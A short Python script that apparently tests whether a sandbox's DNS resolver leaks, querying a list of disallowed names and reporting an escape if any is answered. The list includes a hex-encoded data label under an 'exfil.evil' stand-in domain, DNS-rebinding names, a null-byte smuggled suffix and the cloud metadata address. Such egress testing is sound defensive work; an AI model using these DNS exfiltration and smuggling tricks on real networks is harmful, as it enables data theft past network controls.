# SPDX-License-Identifier: Apache-2.0
# Trick: data in the labels of names that no rule allows
# Gain: a way out by the name server, to whoever owns the domain
from trick import *

for name in ("6272696700.exfil.evil.example.com", "evil.example.com", "x.api.example.com", "a." * 60 + "example.com",
             "api.example.com.evil.org", "apiXexample.com", "example.com", "com", "", "x" * 63 + ".org",
             "a.b.rebind.example.com", "rebind.example.com", "*.rebind.example.com", "api.example.com\0.evil.org",
             "254.169.254.169.in-addr.arpa", "secret.local", "secret.brig.internal", "dns.google"):
    for kind in (1, 28):
        if addresses(ask(question(name, kind), wait=0.3))[0]:
            escaped(f"{name!r} was answered")
stopped("no such name is known")
